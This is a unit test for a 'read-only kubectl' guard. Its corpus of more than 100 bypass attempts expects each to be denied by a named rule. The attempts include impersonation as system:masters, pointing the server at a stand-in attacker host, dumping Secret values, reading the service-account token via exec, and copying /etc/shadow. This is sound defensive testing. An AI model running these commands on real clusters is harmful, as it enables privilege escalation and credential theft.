/**
 * Property: a corpus of attempts to get a write, an escape, credentials or
 * Secret data past a "read-only kubectl" guard (flag smuggling,
 * impersonation, raw API paths, templates reading local files, plugins from
 * PATH, verbosity dumping bodies, alias spellings of Secrets) is denied by
 * the `read-only` policy, each by the rule named next to it. The
 * data-driven part of test/unit/bypass-corpus.test.ts, which sends the same
 * corpus over HTTP and straight to an agent.
 */
import { describe, expect, test } from "bun:test";
import { RULES } from "../../lib/kubectl/index.ts";
import { readOnly } from "../../plugins/read-only.ts";

const CORPUS: [string[], (typeof RULES)[number]][] = [
  // Impersonation and credential flags (privilege escalation through the guard's own identity).
  [["get", "pods", "--as=system:masters"], "global-flag"],
  [["get", "pods", "--as", "system:admin"], "global-flag"],
  [["get", "pods", "--as-group=system:masters"], "global-flag"],
  [["get", "pods", "--as-uid=0"], "global-flag"],
  [["get", "pods", "--token=eyJhbGciOi"], "global-flag"],
  [["get", "pods", "--kubeconfig=/etc/kubernetes/admin.conf"], "global-flag"],
  [["get", "pods", "--context=prod-admin"], "global-flag"],
  [["get", "pods", "--user=cluster-admin"], "global-flag"],
  [["get", "pods", "--cluster=other"], "global-flag"],
  [["get", "pods", "-s", "https://attacker.example"], "global-flag"],
  [["get", "pods", "--server=https://attacker.example"], "global-flag"],
  [["get", "pods", "--server_=https://attacker.example"], "unknown-flag"],
  [["get", "pods", "--insecure-skip-tls-verify"], "global-flag"],
  [["get", "pods", "--insecure_skip_tls_verify=true"], "global-flag"],
  [["get", "pods", "--certificate-authority=/tmp/ca"], "global-flag"],
  [["get", "pods", "--client-key=/var/run/secrets/key"], "global-flag"],
  [["get", "pods", "--username=admin", "--password=x"], "global-flag"],
  [["get", "pods", "--cache-dir=/tmp/poison"], "global-flag"],
  [["get", "pods", "--profile=cpu", "--profile-output=/etc/passwd"], "global-flag"],
  // Flag smuggling: a flag where a value or a resource name should be.
  [["get", "--server=https://x", "pods"], "global-flag"],
  [["get", "pods", "--", "--server=https://x"], "unexpected-argument"],
  [["-n", "get", "delete", "pod", "x"], "flag-before-verb"],
  [["--namespace=default", "delete", "pod", "x"], "flag-before-verb"],
  [["get", "pods", "-l", "--server=https://x"], "missing-value"],
  [["get", "pods", "-n", "--as=system:masters"], "missing-value"],
  // Raw API paths and file or kustomize input.
  [["get", "--raw", "/api/v1/namespaces/kube-system/secrets/admin-token"], "raw-path"],
  [["get", "--raw=/api/v1/secrets"], "raw-path"],
  [["get", "-f", "/etc/kubernetes/manifests/kube-apiserver.yaml"], "file-input"],
  [["get", "--filename=/etc/passwd"], "file-input"],
  [["get", "-k", "."], "file-input"],
  [["describe", "-f", "/etc/shadow"], "file-input"],
  // Output formats that kubectl's own template engine renders or that read local files (jsonpath and
  // custom-columns pass: Kubently evaluates them on redacted objects, test/unit/template-outputs.test.ts).
  [["get", "pods", "-o", "go-template={{.}}"], "output-format"],
  [["get", "pods", "-o=jsonpath-file=/etc/passwd"], "output-format"],
  [["get", "pods", "-o", "custom-columns-file=/etc/passwd"], "output-format"],
  [["get", "pods", "-o", "template", "--template={{.}}"], "output-format"],
  [["get", "pods", "--template={{.}}"], "output-format"],
  [["get", "pods", "-o", "go-template-file=/root/.kube/config"], "output-format"],
  // Verbosity high enough to log request and response bodies (Secrets included).
  [["get", "pods", "-v=9"], "verbosity"],
  [["get", "pods", "--v=10"], "verbosity"],
  [["get", "pods", "-v", "8"], "verbosity"],
  [["logs", "web-1", "--v=6"], "verbosity"],
  // Secret values by every spelling and printer. Tables, `-o name` and describe of Secrets pass
  // (metadata only: test/unit/secret-metadata.test.ts); anything that could print a value does not.
  [["get", "secrets", "-o", "yaml", "-A"], "restricted-resource"],
  [["get", "secret", "db-credentials", "-o", "json"], "restricted-resource"],
  [["get", "Secret/db-credentials", "-ojson"], "restricted-resource"],
  [["get", "secrets.v1./db-credentials", "--output=yaml"], "restricted-resource"],
  [["get", "SECRETS", "-A", "-o=yaml"], "restricted-resource"],
  [["get", "secrets.", "-Aoyaml"], "restricted-resource"],
  [["get", "pods,secrets", "-A", "-o", "json"], "restricted-resource"],
  [["get", "configmaps,secrets", "-n", "shop", "-o", "yaml"], "restricted-resource"],
  [["get", "cm", "x", "secret/db-credentials", "-o", "yaml"], "invalid-resource"],
  [["get", "secrets", "-w", "-o", "json", "--output-watch-events"], "restricted-resource"],
  [["get", "secrets", "--watch-only", "-o", "yaml"], "restricted-resource"],
  [["get", "secret", "db-credentials", "-o", "jsonpath={.data.password}"], "restricted-resource"],
  [["get", "secret", "db-credentials", "-o", "go-template={{.data.password | base64decode}}"], "output-format"],
  [["get", "secrets", "-o", "custom-columns=NAME:.metadata.name,DATA:.data"], "restricted-resource"],
  [["get", "secrets", "--template={{range .items}}{{.data}}{{end}}"], "output-format"],
  [["get", "secrets", "-o", "jsonpath-file=/tmp/x"], "output-format"],
  [["get", "secrets", "--sort-by=.data.password"], "restricted-resource"],
  [["get", "secrets", "--sort-by", "{.metadata.annotations.kubectl\\.kubernetes\\.io/last-applied-configuration}"], "restricted-resource"],
  [["get", "secrets", "-v=9"], "verbosity"],
  [["get", "secret.v1", "-A"], "restricted-resource"],
  [["get", "secrets.v1.mycompany.io"], "restricted-resource"],
  [["describe", "secret/admin-token", "-o", "yaml"], "unknown-flag"],
  [["events", "--for", "secret/db-credentials"], "restricted-resource"],
  [["logs", "secret/db-credentials"], "restricted-resource"],
  [["rollout", "status", "secret/db-credentials"], "restricted-resource"],
  [["rollout", "history", "secret/db-credentials", "-o", "yaml"], "restricted-resource"],
  // Writes and escapes.
  [["delete", "pod", "web-1"], "denied-verb"],
  [["apply", "-f", "-"], "denied-verb"],
  [["edit", "deployment", "web"], "denied-verb"],
  [["patch", "deployment", "web", "-p", "{}"], "denied-verb"],
  [["scale", "deployment", "web", "--replicas=0"], "denied-verb"],
  [["label", "pod", "web-1", "x=y"], "denied-verb"],
  [["annotate", "pod", "web-1", "x=y"], "denied-verb"],
  [["create", "secret", "generic", "x"], "denied-verb"],
  [["replace", "-f", "x.yaml"], "denied-verb"],
  [["set", "image", "deployment/web", "web=evil"], "denied-verb"],
  [["cordon", "node-1"], "denied-verb"],
  [["drain", "node-1"], "denied-verb"],
  [["taint", "nodes", "node-1", "k=v:NoSchedule"], "denied-verb"],
  [["exec", "web-1", "--", "sh"], "denied-verb"],
  [["exec", "-it", "web-1", "--", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], "denied-verb"],
  [["cp", "web-1:/etc/shadow", "/tmp/x"], "denied-verb"],
  [["attach", "web-1"], "denied-verb"],
  [["port-forward", "svc/db", "5432"], "denied-verb"],
  [["proxy", "--port=8001"], "denied-verb"],
  [["debug", "node/node-1", "-it", "--image=busybox"], "denied-verb"],
  [["run", "x", "--image=busybox", "--overrides={\"spec\":{\"hostPID\":true}}"], "denied-verb"],
  [["run", "pwn", "--image=alpine", "--restart=Never", "--", "sh"], "denied-verb"],
  [["rollout", "restart", "deployment/web"], "denied-verb"],
  [["rollout", "undo", "deployment/web"], "denied-verb"],
  [["auth", "reconcile", "-f", "rbac.yaml"], "denied-verb"],
  [["certificate", "approve", "csr-1"], "denied-verb"],
  [["cluster-info", "dump"], "denied-verb"],
  [["config", "view", "--raw"], "denied-verb"],
  [["config", "use-context", "admin"], "denied-verb"],
  [["plugin", "list"], "denied-verb"],
  // kubectl plugins run kubectl-<verb> from PATH.
  [["krew", "install", "x"], "unknown-verb"],
  [["node-shell", "node-1"], "unknown-verb"],
  [["my-plugin"], "unknown-verb"],
  // Hostile text.
  [["get", "pods\u0000", "-A"], "non-printable"],
  [["get", "pods", "-n", "shop\nkube-system"], "non-printable"],
  [["get", "pods", "\u001b[2J"], "non-printable"],
  [["get", ...Array.from({ length: 70 }, () => "pods")], "argument-limits"],
  [["get", "pods", "x".repeat(2_000)], "argument-limits"],
  [[], "missing-verb"],
  // Load amplification: one list as a single giant request, or a follow opening hundreds of log streams.
  [["get", "pods", "-A", "--chunk-size=0"], "denied-flag"],
  [["events", "-A", "--chunk-size", "1"], "denied-flag"],
  [["logs", "-f", "-l", "app=web", "--all-containers", "--max-log-requests=500"], "invalid-value"],
  [["logs", "-f", "-l", "app=web", "--max-log-requests", "6"], "invalid-value"],
];

describe("bypass corpus through readOnly().before", () => {
  test(`has at least 100 attempts (${CORPUS.length}), each with a listed rule`, () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(100);
    for (const [, rule] of CORPUS) expect(RULES).toContain(rule);
  });

  test("every attempt is denied by its rule, both in metadata and in deny mode", async () => {
    const policies = [readOnly(), readOnly({ secrets: "deny" })];
    for (const [argv, rule] of CORPUS) {
      for (const p of policies) {
        const d = await p.before!({ side: "agent", argv, clusterId: "c1", requestedBy: "t" });
        expect({ argv, effect: d?.effect, rule: d?.effect === "deny" ? d.reason.slice(0, d.reason.indexOf(":")) : null }).toEqual({ argv, effect: "deny", rule });
      }
    }
  });
});
